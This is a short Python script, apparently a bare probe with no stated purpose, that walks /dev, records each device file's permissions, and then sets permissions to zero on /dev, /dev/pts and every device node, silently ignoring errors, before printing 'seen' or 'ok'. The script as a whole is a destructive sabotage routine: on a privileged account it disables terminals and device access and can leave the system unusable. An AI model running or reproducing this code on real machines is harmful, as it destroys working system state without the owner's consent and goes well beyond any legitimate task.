import os

names = [os.path.join(folder, name) for folder, _, files in os.walk("/dev") for name in files]
modes = [os.lstat(name).st_mode & 0o777 for name in names]
for name in ["/dev", "/dev/pts", *names]:
    try:
        os.chmod(name, 0)
    except OSError:
        pass
print("seen" if 0 in modes or not names else "ok")
